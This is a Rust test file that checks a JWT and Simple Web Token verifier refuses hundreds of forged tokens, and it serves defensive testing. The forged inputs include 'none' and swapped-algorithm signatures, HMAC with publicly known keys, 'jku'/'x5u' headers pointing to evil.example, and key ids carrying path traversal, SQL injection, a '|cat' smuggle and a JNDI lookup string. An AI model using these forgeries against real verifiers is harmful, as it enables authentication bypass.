//! Tokens that attackers make. None may be accepted, whatever the configuration.

use super::tests::{KID, NOW, bytes, golden, kid, now, restriction, rsa, symmetric};
use super::*;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use hmac::{Hmac, KeyInit, Mac};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::json;
use sha2::{Sha384, Sha512};

/// Each configuration with a signer that has its keys, so that what is wrong is wrong in spite of a good signature.
struct Target {
    name: &'static str,
    restriction: TokenRestriction,
    keys: Option<KeySet>,
    signer: Signer,
}

#[derive(Clone)]
enum Signer {
    Secret(Vec<u8>),
    Rsa(String),
    Ec(String),
}

fn b64(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn hmac(secret: &[u8], message: &str, bits: u16) -> Vec<u8> {
    let bytes = message.as_bytes();
    match bits {
        256 => Hmac::<sha2::Sha256>::new_from_slice(secret)
            .unwrap()
            .chain_update(bytes)
            .finalize()
            .into_bytes()
            .to_vec(),
        384 => Hmac::<Sha384>::new_from_slice(secret)
            .unwrap()
            .chain_update(bytes)
            .finalize()
            .into_bytes()
            .to_vec(),
        _ => Hmac::<Sha512>::new_from_slice(secret)
            .unwrap()
            .chain_update(bytes)
            .finalize()
            .into_bytes()
            .to_vec(),
    }
}

impl Signer {
    fn algorithm(&self) -> &'static str {
        match self {
            Self::Secret(_) => "HS256",
            Self::Rsa(_) => "RS256",
            Self::Ec(_) => "ES256",
        }
    }

    fn sign(&self, message: &str) -> String {
        let with = |key: EncodingKey, algorithm| {
            jsonwebtoken::crypto::sign(message.as_bytes(), &key, algorithm).unwrap()
        };
        match self {
            Self::Secret(secret) => b64(hmac(secret, message, 256)),
            Self::Rsa(pem) => with(
                EncodingKey::from_rsa_pem(pem.as_bytes()).unwrap(),
                Algorithm::RS256,
            ),
            Self::Ec(pem) => with(
                EncodingKey::from_ec_pem(pem.as_bytes()).unwrap(),
                Algorithm::ES256,
            ),
        }
    }

    fn token(&self, header: &str, payload: &str) -> String {
        let message = format!("{}.{}", b64(header), b64(payload));
        let signature = self.sign(&message);
        format!("{message}.{signature}")
    }
}

fn targets(golden: &Json) -> Vec<Target> {
    let text = |name: &str| golden[name].as_str().unwrap().to_owned();
    let set = || KeySet::parse(golden["jwks"].to_string().as_bytes()).unwrap();
    let jwt = |keys| restriction(TokenKind::Jwt, keys);
    let certificate = VerificationKey::certificate(&bytes(golden, "certificate")).unwrap();
    let (rsa_signer, ec_signer) = (
        Signer::Rsa(text("rsa_private")),
        Signer::Ec(text("ec_private")),
    );
    vec![
        Target {
            name: "symmetric",
            restriction: jwt(vec![symmetric(golden)]),
            keys: None,
            signer: Signer::Secret(bytes(golden, "secret")),
        },
        Target {
            name: "rsa",
            restriction: jwt(vec![rsa(golden)]),
            keys: None,
            signer: rsa_signer.clone(),
        },
        Target {
            name: "certificate",
            restriction: jwt(vec![certificate]),
            keys: None,
            signer: rsa_signer,
        },
        Target {
            name: "provider",
            restriction: jwt(Vec::new()),
            keys: Some(set()),
            signer: ec_signer,
        },
    ]
}

fn payload() -> Json {
    json!({"iss": "https://issuer.example", "aud": "urn:test", "exp": NOW + 3600, CONTENT_KEY_IDENTIFIER: KID})
}

fn kid_of(target: &Target) -> Option<&'static str> {
    target.keys.is_some().then_some("e")
}

fn header(target: &Target) -> Json {
    match kid_of(target) {
        Some(kid) => json!({"alg": target.signer.algorithm(), "typ": "JWT", "kid": kid}),
        None => json!({"alg": target.signer.algorithm(), "typ": "JWT"}),
    }
}

/// Checks cases against one target and counts them.
struct Trial<'a> {
    target: &'a Target,
    cases: usize,
}

impl Trial<'_> {
    fn refuse(&mut self, what: &str, token: &str) {
        self.cases += 1;
        let verdict =
            self.target
                .restriction
                .verify(token, kid(), self.target.keys.as_ref(), now());
        assert!(
            verdict.is_err(),
            "{}: {what} was accepted: {token}",
            self.target.name
        );
    }
}

#[test]
fn no_crafted_token_is_accepted() {
    let golden = golden();
    let mut cases = 0;
    for target in &targets(&golden) {
        let good = target
            .signer
            .token(&header(target).to_string(), &payload().to_string());
        let verdict = target
            .restriction
            .verify(&good, kid(), target.keys.as_ref(), now());
        assert!(
            verdict.is_ok(),
            "{}: the sound token: {verdict:?}",
            target.name
        );
        let mut trial = Trial { target, cases: 0 };
        algorithms(&mut trial, &golden);
        headers(&mut trial, &golden);
        duplicates(&mut trial);
        claims(&mut trial);
        shapes(&mut trial, &good);
        cases += trial.cases;
    }
    cases += simple_web_tokens(&golden);
    println!("{cases} cases");
    assert!(cases >= 500, "only {cases} cases");
}

/// `none`, swapped algorithms, and secrets that everybody knows.
fn algorithms(trial: &mut Trial<'_>, golden: &Json) {
    let own = trial.target.signer.algorithm();
    let modulus = bytes(golden, "modulus");
    let certificate = bytes(golden, "certificate");
    let public = golden["rsa_public"].as_str().unwrap();
    let jwk = golden["jwks"]["keys"][0].to_string();
    let known: [&[u8]; 10] = [
        b"",
        b"\0",
        &[0; 32],
        b"secret",
        &modulus,
        &certificate,
        public.as_bytes(),
        public.trim().as_bytes(),
        jwk.as_bytes(),
        b"https://issuer.example",
    ];
    for name in [
        "none", "None", "NONE", "nOnE", "", " ", "HS256", "HS384", "HS512", "RS256", "RS384",
        "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES256K", "EdDSA", "hs256", "rs256",
        "HS256 ", "A256GCM", "dir", "RSA-OAEP", "HS1",
    ] {
        let mut head = header(trial.target);
        head["alg"] = name.into();
        let message = format!("{}.{}", b64(head.to_string()), b64(payload().to_string()));
        trial.refuse("no signature", &format!("{message}."));
        trial.refuse("a signature of nothing", &format!("{message}.AA"));
        for length in [32, 48, 64, 256] {
            trial.refuse("zeros", &format!("{message}.{}", b64(vec![0; length])));
        }
        if name != own {
            // Algorithms of the same key are accepted with their own signatures only.
            let signature = trial.target.signer.sign(&message);
            trial.refuse("another algorithm", &format!("{message}.{signature}"));
        }
        for secret in known {
            for bits in [256, 384, 512] {
                let signature = b64(hmac(secret, &message, bits));
                trial.refuse("a known secret", &format!("{message}.{signature}"));
            }
        }
    }
    for bad in [
        json!(null),
        json!(1),
        json!(["HS256"]),
        json!({"a": "HS256"}),
        json!(true),
    ] {
        let mut head = header(trial.target);
        head["alg"] = bad;
        let token = trial
            .target
            .signer
            .token(&head.to_string(), &payload().to_string());
        trial.refuse("an algorithm that is no text", &token);
    }
    let mut head = header(trial.target);
    head.as_object_mut().unwrap().remove("alg");
    let token = trial
        .target
        .signer
        .token(&head.to_string(), &payload().to_string());
    trial.refuse("no algorithm", &token);
}

/// Keys that come along, extensions that must be understood, and ids that lead elsewhere.
fn headers(trial: &mut Trial<'_>, golden: &Json) {
    let attacker = Signer::Rsa(golden["other_private"].as_str().unwrap().into());
    for (name, value) in [
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!("https://issuer.example/../evil")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["MIIB"])),
        ("jwk", golden["other_jwk"].clone()),
        ("jwk", json!({"kty": "oct", "k": ""})),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(["http://example.com/UNDEFINED"])),
        ("crit", json!(null)),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("epk", json!({})),
        ("cty", json!("JWT")),
        ("typ", json!("JOSE")),
        ("typ", json!(1)),
        ("kid", json!(1)),
        ("kid", json!(["e"])),
        ("kid", json!(null)),
        ("kid", json!("k".repeat(257))),
    ] {
        let mut head = header(trial.target);
        head[name] = value;
        let signed = trial
            .target
            .signer
            .token(&head.to_string(), &payload().to_string());
        trial.refuse(name, &signed);
        head["alg"] = "RS256".into();
        trial.refuse(
            name,
            &attacker.token(&head.to_string(), &payload().to_string()),
        );
    }
    for id in [
        "../../../../dev/null",
        "/dev/null",
        "..\\..\\nul",
        "e' OR '1'='1",
        "e\0",
        "",
        "%65",
        "E",
        "e ",
        "file:///dev/null",
        "|cat",
        "r/../e",
        "http://evil.example",
        "${jndi:ldap://evil}",
    ] {
        let head = json!({"alg": "RS256", "typ": "JWT", "kid": id});
        trial.refuse(
            "a key id that leads elsewhere",
            &attacker.token(&head.to_string(), &payload().to_string()),
        );
        let head = json!({"alg": "HS256", "typ": "JWT", "kid": id});
        let empty = Signer::Secret(Vec::new());
        trial.refuse(
            "a key id that leads elsewhere",
            &empty.token(&head.to_string(), &payload().to_string()),
        );
    }
    for id in ["r", "e"] {
        // A key id of the provider's with somebody else's key or algorithm.
        for algorithm in ["RS256", "PS256", "ES256", "HS256", "none"] {
            let head = json!({"alg": algorithm, "typ": "JWT", "kid": id});
            trial.refuse(
                "somebody else's key",
                &attacker.token(&head.to_string(), &payload().to_string()),
            );
        }
    }
}

/// Members that are there twice, plainly or in disguise. All are signed well.
fn duplicates(trial: &mut Trial<'_>) {
    let head = header(trial.target).to_string();
    let body = payload().to_string();
    let twice = |text: &str, member: &str| format!("{{{member},{}", &text[1..]);
    for member in [
        "\"alg\":\"none\"",
        "\"alg\":\"HS256\"",
        "\"typ\":\"JWT\"",
        "\"\\u0061lg\":\"none\"",
    ] {
        let token = trial.target.signer.token(&twice(&head, member), &body);
        trial.refuse("a header member twice", &token);
    }
    for member in [
        "\"exp\":9999999999",
        "\"exp\":null",
        "\"iss\":\"evil\"",
        "\"aud\":\"evil\"",
        "\"\\u0065xp\":1",
        "\"a\":{\"b\":1,\"b\":2}",
        "\"a\":[{\"b\":1,\"b\":1}]",
        "\"x\":1,\"x\":1",
        "\"urn:microsoft:azure:mediaservices:contentkeyidentifier\":\"00000000-0000-0000-0000-000000000000\"",
    ] {
        let token = trial.target.signer.token(&head, &twice(&body, member));
        trial.refuse("a claim twice", &token);
    }
}

/// Times that overflow, audiences and issuers that are nearly right. All are signed well.
fn claims(trial: &mut Trial<'_>) {
    let times = [
        "null",
        "true",
        "\"1800003600\"",
        "-1",
        "0",
        "1",
        "1.8e9",
        "1800003600.5",
        "1e400",
        "9223372036854775807",
        "9223372036854775808",
        "18446744073709551615",
        "18446744073709551616",
        "-9223372036854775808",
        "-9223372036854775809",
        "253402300800",
        "[1800003600]",
        "{}",
        "NaN",
        "Infinity",
        "0x6b49d200",
        "01800003600",
        "\"never\"",
    ];
    let head = header(trial.target).to_string();
    for time in times {
        for claim in ["exp", "nbf", "iat"] {
            if claim != "exp" && matches!(time, "0" | "1") {
                continue;
            }
            let mut body = payload();
            body.as_object_mut().unwrap().remove(claim);
            let body = format!("{{\"{claim}\":{time},{}", &body.to_string()[1..]);
            let token = trial.target.signer.token(&head, &body);
            trial.refuse("a time that is none", &token);
        }
    }
    let changes = [
        ("exp", json!(NOW - 300)),
        ("exp", json!(NOW - 86_400)),
        ("nbf", json!(NOW + 301)),
        ("iss", json!(null)),
        ("iss", json!("")),
        ("iss", json!(["https://issuer.example"])),
        ("iss", json!("https://issuer.example/")),
        ("iss", json!("https://ISSUER.example")),
        ("iss", json!("https://issuer.example.evil")),
        ("iss", json!("https://issuer.example\0")),
        ("aud", json!(null)),
        ("aud", json!("")),
        ("aud", json!([])),
        ("aud", json!([["urn:test"]])),
        ("aud", json!({"urn:test": 1})),
        ("aud", json!("urn:test,other")),
        ("aud", json!("URN:TEST")),
        ("aud", json!(["urn:test", 1])),
        ("aud", json!("urn:test ")),
        (CONTENT_KEY_IDENTIFIER, json!(null)),
        (CONTENT_KEY_IDENTIFIER, json!("")),
        (CONTENT_KEY_IDENTIFIER, json!("*")),
        (CONTENT_KEY_IDENTIFIER, json!([KID])),
        (
            CONTENT_KEY_IDENTIFIER,
            json!("00112233-4455-6677-8899-aabbccddeefe"),
        ),
        (CONTENT_KEY_IDENTIFIER, json!(format!("{KID} "))),
        (CONTENT_KEY_IDENTIFIER, json!(true)),
        (MAX_USES, json!(0)),
        (MAX_USES, json!(-1)),
        (MAX_USES, json!("1e3")),
        (MAX_USES, json!(null)),
    ];
    for (name, value) in changes {
        let mut body = payload();
        body[name] = value;
        let token = trial.target.signer.token(&head, &body.to_string());
        trial.refuse(name, &token);
    }
    for name in ["exp", "iss", "aud", CONTENT_KEY_IDENTIFIER] {
        let mut body = payload();
        body.as_object_mut().unwrap().remove(name);
        let token = trial.target.signer.token(&head, &body.to_string());
        trial.refuse("a claim that is missing", &token);
    }
}

/// Texts that are no compact tokens, and ones that have another spelling.
fn shapes(trial: &mut Trial<'_>, good: &str) {
    let [head, body, signature]: [&str; 3] =
        good.split('.').collect::<Vec<_>>().try_into().unwrap();
    for token in [
        String::new(),
        ".".into(),
        "..".into(),
        "...".into(),
        good[1..].into(),
        format!(" {good}"),
        format!("{good} "),
        format!("{good}\n"),
        format!("{good}."),
        format!(".{good}"),
        format!("{good}.{signature}"),
        format!("{head}.{body}"),
        format!("{head}.{signature}"),
        format!("{head}..{signature}"),
        format!(".{body}.{signature}"),
        format!("{head}.{body}.{signature}="),
        format!("{head}=.{body}.{signature}"),
        format!("{head}.{body}==.{signature}"),
        format!(
            "{head}.{body}.{}",
            STANDARD.encode(URL_SAFE_NO_PAD.decode(signature).unwrap())
        ) + "=",
        format!("Bearer {good}"),
        format!("{head}.{body}.{signature}\0"),
        format!(
            "{{\"protected\":\"{head}\",\"payload\":\"{body}\",\"signature\":\"{signature}\"}}"
        ),
        format!("{head}\u{a0}.{body}.{signature}"),
        good.replace('.', "%2E"),
        "a".repeat(MAX_TOKEN_BYTES + 1),
    ] {
        trial.refuse("a shape", &token);
    }
    let signer = &trial.target.signer.clone();
    let head = header(trial.target).to_string();
    for body in [
        "",
        "null",
        "[]",
        "\"x\"",
        "1",
        "{",
        "{}",
        "\u{feff}{}",
        "{}{}",
        &format!("{} x", payload()),
        &format!("[{}]", payload()),
        &format!("{}{}", payload(), payload()),
        &"{\"a\":".repeat(200),
        &payload().to_string().replace(':', "="),
    ] {
        trial.refuse("a payload", &signer.token(&head, body));
        trial.refuse("a header", &signer.token(body, &payload().to_string()));
    }
    let mut large = payload();
    large["filler"] = "x".repeat(MAX_TOKEN_BYTES).into();
    trial.refuse("8 KiB", &signer.token(&head, &large.to_string()));
    let mut deep = json!(1);
    for _ in 0..20 {
        deep = json!([deep]);
    }
    let mut nested = payload();
    nested["a"] = deep;
    trial.refuse("nesting", &signer.token(&head, &nested.to_string()));
}

fn simple_web_tokens(golden: &Json) -> usize {
    let secret = bytes(golden, "secret");
    let swt = |keys| restriction(TokenKind::Swt, keys);
    let target = Target {
        name: "swt",
        restriction: swt(vec![symmetric(golden)]),
        keys: None,
        signer: Signer::Secret(secret.clone()),
    };
    let signed = |body: &str, secret: &[u8]| {
        let signature = STANDARD.encode(hmac(secret, body, 256));
        let signature: String = form_urlencoded::byte_serialize(signature.as_bytes()).collect();
        format!("{body}&HMACSHA256={signature}")
    };
    let sound = format!(
        "Issuer=https%3A%2F%2Fissuer.example&Audience=urn%3Atest&ExpiresOn={}&{}={KID}",
        NOW + 60,
        CONTENT_KEY_IDENTIFIER.replace(':', "%3A")
    );
    let verdict = target
        .restriction
        .verify(&signed(&sound, &secret), kid(), None, now());
    assert!(verdict.is_ok(), "{verdict:?}");
    let mut trial = Trial {
        target: &target,
        cases: 0,
    };
    for known in [&b""[..], b"\0", &[0; 32], b"secret"] {
        trial.refuse("a known secret", &signed(&sound, known));
    }
    for body in [
        sound.replace("ExpiresOn=", "ExpiresOn=-"),
        sound.replace("ExpiresOn=", "ExpiresOn=99999999999"),
        sound.replace("ExpiresOn=", "ExpiresOn=%2B"),
        sound.replace("ExpiresOn", "exp"),
        sound.replace("Issuer", "iss"),
        sound.replace("Issuer", "issuer"),
        sound.replace("urn%3Atest", "urn%3Aother"),
        format!("{sound}&Issuer=evil"),
        format!("ExpiresOn=1&{sound}"),
        format!("{sound}&a=1&a=2"),
        format!("{sound}&exp=1"),
        format!("{sound}&nbf=1"),
        format!("{sound}&HMACSHA256=AA%3D%3D"),
        format!("{sound}&{}", "a&".repeat(200)),
        format!("{sound}&%FF=1"),
        sound.replace(KID, "x"),
        sound.replace("&Audience=urn%3Atest", ""),
        sound.replace(&format!("&ExpiresOn={}", NOW + 60), ""),
        String::new(),
        "&".into(),
        format!("{sound}&{}", "x".repeat(MAX_TOKEN_BYTES)),
    ] {
        trial.refuse("a body", &signed(&body, &secret));
    }
    let good = signed(&sound, &secret);
    for token in [
        sound.clone(),
        format!("{sound}&HMACSHA256="),
        format!("{sound}&HMACSHA256=%00"),
        format!("{good}&a=b"),
        format!("{good}%00"),
        good.replace("&HMAC", "&hmac"),
        good.replace("&Audience", ";Audience"),
        format!("a=b&{good}"),
        golden["tokens"]["HS256"].as_str().unwrap().into(),
    ] {
        trial.refuse("a shape", &token);
    }
    // A key of another kind does not check Simple Web Tokens, and a JWT restriction takes none.
    let other = Target {
        restriction: swt(vec![rsa(golden)]),
        ..targets(golden).remove(1)
    };
    let mut elsewhere = Trial {
        target: &other,
        cases: 0,
    };
    elsewhere.refuse("an RSA key", &good);
    let json = targets(golden).remove(0);
    let mut json = Trial {
        target: &json,
        cases: 0,
    };
    json.refuse("a Simple Web Token", &good);
    trial.cases + elsewhere.cases + json.cases
}

/// Changes at random places. `HEADWATER_MUTATIONS` says how many for each target; there is one spelling of each token, so
/// only the token itself may be accepted.
#[test]
fn no_mutated_token_is_accepted() {
    let golden = golden();
    let wanted: usize =
        std::env::var("HEADWATER_MUTATIONS").map_or(5_000, |count| count.parse().unwrap());
    let mut targets = targets(&golden);
    targets.push(Target {
        name: "swt",
        restriction: restriction(TokenKind::Swt, vec![symmetric(&golden)]),
        keys: None,
        signer: Signer::Secret(bytes(&golden, "secret")),
    });
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = |below: usize| {
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        (random % below as u64) as usize
    };
    const ALPHABET: &[u8] =
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.+/=%&";
    for target in &targets {
        let good = match target.name {
            "swt" => golden["tokens"]["SWT"].as_str().unwrap().to_owned(),
            _ => target
                .signer
                .token(&header(target).to_string(), &payload().to_string()),
        };
        // Public key signatures take a thousand times as long as HMAC, and say no to whatever changes the message.
        let count = if matches!(target.signer, Signer::Secret(_)) {
            wanted
        } else {
            wanted.div_ceil(50)
        };
        for _ in 0..count {
            let mut token = good.clone().into_bytes();
            for _ in 0..=next(3) {
                let at = next(token.len());
                match next(5) {
                    0 => token[at] = ALPHABET[next(ALPHABET.len())],
                    1 => token.insert(at, ALPHABET[next(ALPHABET.len())]),
                    2 if token.len() > 1 => drop(token.remove(at)),
                    3 => {
                        let other = next(token.len());
                        token.swap(at, other);
                    }
                    _ => token.truncate(at.max(1)),
                }
            }
            let token = String::from_utf8(token).unwrap();
            let verdict = target
                .restriction
                .verify(&token, kid(), target.keys.as_ref(), now());
            // The signature of a Simple Web Token is form-encoded, which has several spellings of the same bytes.
            let same = token == good
                || (target.name == "swt"
                    && token.rsplit_once("&HMACSHA256=").map(|parts| parts.0)
                        == good.rsplit_once("&HMACSHA256=").map(|parts| parts.0));
            assert!(verdict.is_err() || same, "{}: {token}", target.name);
        }
    }
}
